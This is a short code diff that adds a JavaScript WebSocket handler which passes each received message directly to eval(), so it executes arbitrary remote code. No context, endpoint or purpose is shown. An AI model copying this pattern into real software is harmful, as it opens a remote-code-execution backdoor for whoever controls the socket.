@@ -1,0 +1,4 @@
+socket.onmessage = (event) => {
+  const code = event.data;
+  eval(code);
+};
